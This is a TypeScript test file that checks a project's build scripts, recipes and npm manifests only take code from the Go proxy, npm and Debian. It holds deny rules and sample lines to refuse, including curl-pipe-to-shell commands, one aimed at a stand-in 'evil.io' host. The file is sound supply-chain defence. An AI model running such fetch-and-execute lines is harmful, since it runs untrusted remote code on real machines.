/**
 * Where code may come from (../shared/PITFALLS.md, issue 11 item 1): the build scripts and recipes
 * may take code only from the Go module proxy (`go build`/`go install` of served modules), npm and
 * Debian (apt-get, debootstrap from a Debian mirror). This fails, naming each file and line, when one
 * names another source: a `git clone`/`fetch`, an archive or release download, `third_party`, a
 * curl/wget of anything but a test host, a Go fetch that bypasses the proxy, or an npm dependency
 * that is not a registry version.
 *
 * Scanned: everything under e2e/ (the toolchain's scripts, go.mod files and Go programs, the
 * harnesses), scripts/, .ci/, .github/, and package.json/package-lock.json. In Markdown only fenced
 * code blocks (the recipes) are read, so prose may explain what is refused. components/ is the
 * product: its k0s download runs on the user's host, and is not a build script.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import { describe, expect, it } from "vitest";
import { ROOT } from "./lib/program";

const SCANNED_DIRS = ["e2e", "scripts", ".ci", ".github"];
const SKIPPED_DIRS = new Set(["node_modules", ".cache", "bin", ".git"]);

/** A URL whose host is written out (a `$VAR` or regex-escaped host is no URL here). */
const URL = /\bhttps?:\/\/(\[[0-9a-fA-F:]+\]|[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)(?::[0-9]+)?(?=[/\s"'`)\]]|$)([^\s"'`)\]]*)/g;

/**
 * Hosts that only the tests serve: loopback, the harness's private networks (RFC 1918), the
 * documentation ranges (RFC 5737) and the reserved names (RFC 6761, localtest.me -> 127.0.0.1).
 */
export function isTestHost(host: string): boolean {
  const name = host.toLowerCase().replace(/^\[|\]$/g, "");
  if (name === "::1" || /^f[cd][0-9a-f]{2}:/.test(name)) return true;
  if (
    /^(localhost|localtest\.me|example\.(com|net|org))$|\.(localhost|test|invalid|example|localtest\.me|example\.(com|net|org))$/.test(name)
  )
    return true;
  const ip = /^(\d+)\.(\d+)\.(\d+)\.(\d+)$/.exec(name)?.slice(1).map(Number);
  if (ip === undefined) return false;
  const [a, b, c] = ip;
  return (
    a === 127 ||
    a === 10 ||
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 168) ||
    (a === 192 && b === 0 && c === 2) ||
    (a === 198 && b === 51 && c === 100) ||
    (a === 203 && b === 0 && c === 113)
  );
}

const urlsIn = (line: string) => [...line.matchAll(URL)].map((match) => ({ host: match[1], path: match[2] }));
/** True when the line names at least one URL and every one is a test host's. */
const onlyTestHosts = (line: string) => urlsIn(line).length > 0 && urlsIn(line).every((url) => isTestHost(url.host));

/** Where a shell, YAML `run:` or a program starts a command. */
const COMMAND_START = String.raw`(?:^|[;&|({\x60]|\$\(|\brun:|\b(?:then|do|else|exec|sudo|xargs|time|env)\s)\s*(?:\w+=\S*\s+)*`;
const command = (name: string) => new RegExp(`${COMMAND_START}${name}\\b|["'\x60]${name}["'\x60]\\s*,`);

interface Rule {
  readonly name: string;
  /** Only files whose path matches; every file when unset. */
  readonly files?: RegExp;
  readonly refuses: (line: string) => boolean;
}

/** What a build script or recipe may not say; each rule's "should be refused" lines are tested below. */
export const RULES: readonly Rule[] = [
  {
    name: "git clone/fetch of a remote repository",
    refuses: (line) => {
      const shell = /\bgit\s+(?:-[Cc]\s+\S+\s+|--?[\w-]+(?:=\S+)?\s+)*(clone|fetch|pull|submodule|ls-remote|archive\s+--remote)\b/.test(
        line,
      );
      const program =
        /\bgit\(\s*["'\x60](clone|fetch|pull|submodule|ls-remote)["'\x60]|["'\x60]git["'\x60]\s*,\s*\[\s*["'\x60](clone|fetch|pull|submodule|ls-remote)["'\x60]/.test(
          line,
        );
      return (shell || program) && !onlyTestHosts(line);
    },
  },
  {
    name: "an archive or release download",
    refuses: (line) =>
      urlsIn(line).some(
        ({ host, path: urlPath }) =>
          !isTestHost(host) &&
          (/\.(tar\.gz|tgz|zip|tar\.xz|txz|tar\.bz2|tbz2?|tar\.zst|tar)(?:[?#].*)?$/i.test(urlPath) ||
            /\/releases\/download\/|\/-\/archive\/|^\/[^/]+\/[^/]+\/(archive|tarball|zipball)\//.test(urlPath) ||
            /^(codeload\.github\.com|raw\.githubusercontent\.com|gist\.githubusercontent\.com|objects\.githubusercontent\.com)$/i.test(
              host,
            )),
      ),
  },
  { name: "third_party", refuses: (line) => /third[_-]party/i.test(line) },
  {
    name: "curl/wget of anything but a test host",
    refuses: (line) => (command("curl").test(line) || command("wget").test(line)) && !onlyTestHosts(line),
  },
  {
    name: "a Go fetch around the module proxy",
    refuses: (line) =>
      /\bgo\s+(get|install|mod\s+download|run)\b[^#\n]*\S+\.(git|hg|svn|bzr|fossil)(\/|@|\s|$)/.test(line) ||
      /\bGOPROXY=\S*\bdirect\b|\bGO(NOPROXY|PRIVATE|INSECURE|VCS)=\S/.test(line) ||
      (/-insecure\b/.test(line) && /\bgo\s/.test(line)),
  },
  {
    name: "a go.mod replace with a local directory",
    files: /(^|\/)go\.(mod|work)$/,
    refuses: (line) => /^\s*(replace\s+)?\S+(\s+v\S+)?\s+=>\s+(\.{1,2}\/|\/)/.test(line),
  },
];

export interface Finding {
  readonly file: string;
  readonly line: number;
  readonly rule: string;
  readonly text: string;
}

/** The lines of a file that count as a script or recipe: all of them, or a Markdown file's code blocks. */
function recipeLines(file: string, text: string): [number, string][] {
  const lines = text.split("\n").map((line, index) => [index + 1, line] as [number, string]);
  if (!file.endsWith(".md")) return lines;
  let fenced = false;
  return lines.filter(([, line]) => {
    if (/^\s*(```|~~~)/.test(line)) {
      fenced = !fenced;
      return false;
    }
    return fenced;
  });
}

export function scanText(file: string, text: string): Finding[] {
  return recipeLines(file, text).flatMap(([line, content]) =>
    RULES.filter((rule) => (rule.files?.test(file) ?? true) && rule.refuses(content)).map((rule) => ({
      file,
      line,
      rule: rule.name,
      text: content.trim(),
    })),
  );
}

/** npm dependencies must be registry versions, and the lock must resolve nothing elsewhere. */
export function scanPackageJson(file: string, text: string): Finding[] {
  const manifest = JSON.parse(text) as Record<string, Record<string, string> | undefined>;
  const findings: Finding[] = Object.entries(manifest.scripts ?? {}).flatMap(([name, script]) =>
    scanText(file, script).map((finding) => ({ ...finding, line: 0, text: `scripts.${name}: ${finding.text}` })),
  );
  for (const field of ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "overrides"]) {
    for (const [name, spec] of Object.entries(manifest[field] ?? {})) {
      if (typeof spec === "string" && !/^(npm:[@\w./-]+@)?[~^]?\d+\.\d+\.\d+(-[\w.]+)?$/.test(spec)) {
        findings.push({ file, line: 0, rule: "an npm dependency that is not a registry version", text: `${field}.${name}: ${spec}` });
      }
    }
  }
  return findings;
}

export function scanLock(file: string, text: string): Finding[] {
  const lock = JSON.parse(text) as { packages?: Record<string, { resolved?: string }> };
  return Object.entries(lock.packages ?? {})
    .filter(([, entry]) => entry.resolved !== undefined && !entry.resolved.startsWith("https://registry.npmjs.org/"))
    .map(([name, entry]) => ({ file, line: 0, rule: "an npm package from outside the registry", text: `${name}: ${entry.resolved}` }));
}

function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return SKIPPED_DIRS.has(entry.name) ? [] : filesUnder(full);
    return entry.isFile() ? [full] : [];
  });
}

/** Every finding in the repository's build scripts and recipes. */
export function scanRepository(root: string = ROOT): Finding[] {
  const findings: Finding[] = [];
  for (const file of SCANNED_DIRS.flatMap((dir) => filesUnder(path.join(root, dir)))) {
    const bytes = fs.readFileSync(file);
    if (bytes.includes(0)) continue; // a binary, such as a built tool: no recipe
    findings.push(...scanText(path.relative(root, file), bytes.toString("utf8")));
  }
  findings.push(...scanPackageJson("package.json", fs.readFileSync(path.join(root, "package.json"), "utf8")));
  findings.push(...scanLock("package-lock.json", fs.readFileSync(path.join(root, "package-lock.json"), "utf8")));
  return findings;
}

describe("where the build scripts and recipes take code from", () => {
  it("names no source but the Go module proxy, npm and Debian", () => {
    const report = scanRepository().map(({ file, line, rule, text }) => `${file}:${line}: ${rule}: ${text}`);
    expect(report, `build scripts naming another source:\n${report.join("\n")}`).toEqual([]);
  });

  it.each([
    ['git clone https://github.com/k0sproject/k0s.git "$src"', "git clone/fetch of a remote repository"],
    ['  (cd "$src" && git fetch --depth 1 origin "$tag")', "git clone/fetch of a remote repository"],
    ['git -C "$dir" clone --depth 1 "$upstream"', "git clone/fetch of a remote repository"],
    ['execFileSync("git", ["clone", repoUrl, dir]);', "git clone/fetch of a remote repository"],
    ["  - run: curl -fsSLO https://github.com/pulumi/pulumi-command/archive/refs/tags/v1.2.1.tar.gz", "an archive or release download"],
    ["url=https://github.com/k0sproject/k0s/releases/download/v1.36.3+k0s.2/k0s-v1.36.3+k0s.2-amd64", "an archive or release download"],
    ['SNAPSHOT="https://codeload.github.com/stefanprodan/podinfo/tar.gz/refs/tags/6.7.0"', "an archive or release download"],
    ["tarball=https://proxy.golang.org/github.com/k0sproject/k0s/@v/v1.36.3.zip", "an archive or release download"],
    ["source=$(third_party_source pulumi-command)/provider", "third_party"],
    ['cp -r "$SHARED/third_party/k0s" "$scratch"', "third_party"],
    ['curl -fsSL "$RELEASE_URL" -o k0s', "curl/wget of anything but a test host"],
    ["  curl -fsSL https://get.k0s.sh | sh", "curl/wget of anything but a test host"],
    ["out=$(wget -qO- https://dl.k8s.io/release/stable.txt)", "curl/wget of anything but a test host"],
    ['node.exec("curl", ["-sf", "https://example.org.evil.com/x"])', "curl/wget of anything but a test host"],
    ["go get github.com/k0sproject/k0s.git@main", "a Go fetch around the module proxy"],
    ["GOPROXY=direct go install github.com/k0sproject/k0s@v1.36.3+k0s.2", "a Go fetch around the module proxy"],
    ["export GOPRIVATE=github.com/k0sproject", "a Go fetch around the module proxy"],
    ["\tgithub.com/k0sproject/k0s => ../../../shared/k0s", "a go.mod replace with a local directory"],
  ])("refuses %s", (line, rule) => {
    expect(
      scanText(rule.startsWith("a go.mod") ? "e2e/toolchain/k0s/go.mod" : "e2e/toolchain/example.sh", line).map((finding) => finding.rule),
    ).toContain(rule);
  });

  it.each([
    ['(cd "$mod" && go build -trimpath -o "$BIN/$name" "$package")'],
    ["go install github.com/fluxcd/flux2/v2/cmd/flux@v2.7.3"],
    ["\tk8s.io/api => k8s.io/api v0.36.3"],
    ["  apt-get install -y --no-install-recommends umoci busybox-static git curl iproute2"],
    ["DROPLET_PACKAGES=systemd,systemd-sysv,openssh-server,dbus,iproute2,curl,ca-certificates"],
    ["DEBIAN_MIRROR=${DEBIAN_MIRROR:-http://deb.debian.org/debian}"],
    ['  debootstrap --variant=minbase --include="$DROPLET_PACKAGES" bookworm "$scratch" "$DEBIAN_MIRROR"'],
    ["npm ci --no-audit --no-fund"],
    ['node.exec("curl", ["-sf", "--max-time", "5", "-H", `Host: ${host}`, "http://127.0.0.1:30080/"])'],
    ["curl -fsS http://podinfo.dev.localtest.me:30080/ http://10.213.0.1:8080/sha256sums.txt"],
    ['repo.git("push", "origin", "main")'],
    ["var releaseURL = regexp.MustCompile(`https://github\\.com/fluxcd/([a-z-]+)/releases/download/[^/]+/([a-z.-]+\\.yaml)`)"],
    ["      - uses: actions/checkout@11d5960a326750d5838078e36cf38b85af677262 # v4.4.0"],
  ])("lets %s pass", (line) => {
    expect(scanText("e2e/toolchain/example.sh", line)).toEqual([]);
  });

  it("reads a Markdown file's code blocks as recipes and leaves its prose alone", () => {
    const readme = [
      "The snapshots in ../shared/third_party/ are gone.",
      "```sh",
      "git clone https://github.com/k0sproject/k0s",
      "```",
    ].join("\n");
    expect(scanText("e2e/toolchain/README.md", readme)).toEqual([
      {
        file: "e2e/toolchain/README.md",
        line: 3,
        rule: "git clone/fetch of a remote repository",
        text: "git clone https://github.com/k0sproject/k0s",
      },
    ]);
  });

  it("refuses npm scripts that fetch, and dependencies or lock entries from outside the registry", () => {
    const manifest = {
      scripts: { fetch: "curl -fsSL https://example.net.evil.io/x.sh | sh" },
      dependencies: { a: "1.2.3", b: "github:acme/b", c: "https://x.io/c.tgz" },
    };
    expect(scanPackageJson("package.json", JSON.stringify(manifest)).map((finding) => finding.text)).toEqual([
      "scripts.fetch: curl -fsSL https://example.net.evil.io/x.sh | sh",
      "dependencies.b: github:acme/b",
      "dependencies.c: https://x.io/c.tgz",
    ]);
    const lock = { packages: { "node_modules/a": {}, "node_modules/b": { resolved: "git+ssh://git@github.com/acme/b.git#abc" } } };
    expect(scanLock("package-lock.json", JSON.stringify(lock))).toEqual([
      {
        file: "package-lock.json",
        line: 0,
        rule: "an npm package from outside the registry",
        text: "node_modules/b: git+ssh://git@github.com/acme/b.git#abc",
      },
    ]);
  });
});
